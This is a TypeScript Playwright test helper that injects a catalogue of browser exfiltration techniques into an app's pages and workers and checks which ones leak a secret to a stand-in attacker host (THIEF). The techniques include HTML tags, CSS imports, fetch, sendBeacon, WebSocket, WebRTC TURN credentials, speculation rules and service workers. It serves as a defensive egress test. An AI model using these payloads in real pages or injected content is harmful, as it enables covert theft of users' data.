import type { Page, Worker } from '@playwright/test';
import { THIEF } from './hostile-text.ts';

/*
 * What foreign code could try if it ran in a context of the app, one way out each. They run there as code; how one fails
 * (an exception, an error event, silence) is not the matter: the proxy says what got through.
 */
type Attack = (target: { readonly secret: string; readonly thief: string }) => unknown;

/** HTML that is put into the document as it is. */
const MARKUP: readonly string[] = [
  '<img src="URL">',
  '<img srcset="URL 1x">',
  '<picture><source srcset="URL"><img></picture>',
  '<iframe src="URL"></iframe>',
  '<iframe srcdoc="<img src=\'URL\'>"></iframe>',
  '<object data="URL"></object>',
  '<embed src="URL">',
  '<video src="URL" autoplay poster="URL"></video>',
  '<audio src="URL" autoplay></audio>',
  '<link rel="stylesheet" href="URL">',
  '<link rel="prefetch" href="URL">',
  '<link rel="preload" as="fetch" href="URL" crossorigin>',
  '<link rel="modulepreload" href="URL">',
  '<link rel="icon" href="URL">',
  '<link rel="manifest" href="URL">',
  '<style>@import "URL"; body { background: url("URL") } @font-face { font-family: x; src: url("URL") }</style>',
  '<svg><image href="URL"/><use href="URL#a"/></svg>',
  '<input type="image" src="URL">',
  '<link rel="preconnect" href="https://SECRET.THIEF">',
  '<link rel="dns-prefetch" href="https://SECRET.THIEF">',
  '<meta http-equiv="refresh" content="0;url=URL">',
];

const SCRIPTS: readonly Attack[] = [
  ({ secret, thief }) => fetch(`http://${thief}/?${secret}`, { mode: 'no-cors' }),
  ({ secret, thief }) => fetch(`http://${thief}/`, { method: 'POST', body: secret, mode: 'no-cors' }),
  ({ secret, thief }) => fetch(`http://${thief}/`, { method: 'POST', body: secret, keepalive: true, mode: 'no-cors' }),
  ({ secret, thief }) => {
    const request = new XMLHttpRequest();
    request.open('POST', `http://${thief}/`);
    request.send(secret);
  },
  ({ secret, thief }) => navigator.sendBeacon(`http://${thief}/`, secret),
  ({ secret, thief }) => new WebSocket(`ws://${thief}/${secret}`),
  ({ secret, thief }) => new EventSource(`http://${thief}/${secret}`),
  ({ secret, thief }) => import(/* @vite-ignore */ `http://${thief}/${secret}.js`),
  ({ secret, thief }) => window.open(`http://${thief}/?${secret}`),
  ({ secret, thief }) => window.open(`http://${thief}/?${secret}`, '_blank', 'noopener'),
  ({ secret, thief }) => window.location.assign(`http://${thief}/?${secret}`),
  ({ secret, thief }) => {
    const link = document.createElement('a');
    link.href = `http://${thief}/?${secret}`;
    link.ping = `http://${thief}/?${secret}`;
    link.target = '_blank';
    document.body.append(link);
    link.click();
  },
  ({ secret, thief }) => {
    const form = document.createElement('form');
    form.action = `http://${thief}/`;
    form.method = 'post';
    form.innerHTML = `<input name="words" value="${secret}">`;
    document.body.append(form);
    form.submit();
  },
  ({ secret, thief }) => {
    const script = document.createElement('script');
    script.src = `http://${thief}/${secret}.js`;
    document.body.append(script);
  },
  ({ secret, thief }) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({
      prefetch: [{ urls: [`http://${thief}/?${secret}`], eagerness: 'immediate' }],
    });
    document.body.append(script);
  },
  ({ secret, thief }) => new Worker(`http://${thief}/${secret}.js`),
  ({ secret, thief }) =>
    new Worker(URL.createObjectURL(new Blob([`fetch('http://${thief}/?${secret}', { mode: 'no-cors' })`]))),
  ({ secret, thief }) => new SharedWorker(`data:text/javascript,fetch('http://${thief}/?${secret}')`),
  ({ secret, thief }) => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `turn:${thief}:80?transport=tcp`, username: secret, credential: secret }],
    });
    peer.createDataChannel('words');
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  ({ secret, thief }) => new Image().setAttribute('src', `http://${thief}/?${secret}`),
  ({ secret, thief }) => new Audio(`http://${thief}/?${secret}`).play(),
  ({ secret, thief }) => new FontFace('x', `url(http://${thief}/?${secret})`).load(),
  ({ secret, thief }) => navigator.serviceWorker.register(`http://${thief}/${secret}.js`),
];

/** All that can run in a worker too. */
const WORKER_SCRIPTS: readonly Attack[] = [
  ({ secret, thief }) => fetch(`http://${thief}/?${secret}`, { mode: 'no-cors' }),
  ({ secret, thief }) => fetch(`http://${thief}/`, { method: 'POST', body: secret, mode: 'no-cors' }),
  ({ secret, thief }) => {
    const request = new XMLHttpRequest();
    request.open('POST', `http://${thief}/`);
    request.send(secret);
  },
  ({ secret, thief }) => new WebSocket(`ws://${thief}/${secret}`),
  ({ secret, thief }) => new EventSource(`http://${thief}/${secret}`),
  ({ secret, thief }) => import(/* @vite-ignore */ `http://${thief}/${secret}.js`),
  ({ secret, thief }) =>
    new Worker(URL.createObjectURL(new Blob([`fetch('http://${thief}/?${secret}', { mode: 'no-cors' })`]))),
];

export const PAGE_ATTACKS = SCRIPTS.length + MARKUP.length;

/** These lead the page itself away. Playwright waits for ever for a navigation that was stopped. */
function leadsAway(code: string): boolean {
  return /assign|submit|link\.click|refresh/.test(code);
}

/** The `index`th attack, from the page itself or, where it would lead that away, from another tab of it. */
export async function attackPage(page: Page, index: number, secret: string): Promise<void> {
  const script = SCRIPTS[index % PAGE_ATTACKS];
  const markup = MARKUP[(index % PAGE_ATTACKS) - SCRIPTS.length] ?? '';
  if (!leadsAway(script?.toString() ?? markup)) {
    await attack(page, script, markup, secret);
    return;
  }
  const tab = await page.context().newPage();
  await tab.goto(page.url());
  await attack(tab, script, markup, secret);
  await tab.close();
}

async function attack(page: Page, script: Attack | undefined, markup: string, secret: string): Promise<void> {
  const target = { secret, thief: THIEF };
  if (script !== undefined) {
    await run(page, script, target);
    return;
  }
  await run(
    page,
    ({ html }) => {
      const container = document.createElement('div');
      container.hidden = true;
      container.innerHTML = html;
      document.body.append(container);
    },
    { html: markup.replaceAll('URL', `http://${THIEF}/?${secret}`).replaceAll('SECRET.THIEF', `${secret}.${THIEF}`) },
  );
}

export async function attackWorker(worker: Worker, index: number, secret: string): Promise<void> {
  const script = WORKER_SCRIPTS[index % WORKER_SCRIPTS.length];
  if (script !== undefined) await run(worker, script, { secret, thief: THIEF });
}

async function run<Target>(
  realm: { evaluate(source: string): Promise<unknown> },
  code: (target: Target) => unknown,
  target: Target,
): Promise<void> {
  const source = `(async () => { try { await Promise.race([(${code.toString()})(${JSON.stringify(target)}), new Promise((resolve) => setTimeout(resolve, 50))]); } catch {} })()`;
  await realm.evaluate(source);
}
